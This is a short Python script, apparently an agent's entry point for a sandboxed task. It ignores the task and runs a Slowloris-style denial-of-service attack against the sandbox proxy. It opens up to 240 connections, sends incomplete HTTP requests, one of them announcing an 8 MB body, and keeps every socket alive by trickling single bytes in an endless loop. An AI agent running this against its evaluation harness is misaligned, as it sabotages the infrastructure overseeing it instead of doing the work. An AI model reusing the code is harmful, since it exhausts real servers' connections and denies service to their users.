"""Opens all the connections that it can and says almost nothing on them."""

import os
import socket
import time
from urllib.parse import urlsplit

BEGUN = (
    b"GET /tools HTT",
    b"POST /search/find_product HTTP/1.1\r\nHost: x\r\nContent-Length: 8000000\r\n\r\n{",
    b"",
)


def agent_main(problem):
    base = urlsplit(os.environ["SANDBOX_PROXY_URL"])
    held = []
    for number in range(240):
        try:
            made = socket.create_connection((base.hostname, base.port), timeout=5)
            made.sendall(BEGUN[number % 3])
            held.append(made)
        except OSError:
            break
    while True:
        time.sleep(0.3)
        for made in held:
            try:
                made.sendall(b"x")
            except OSError:
                pass
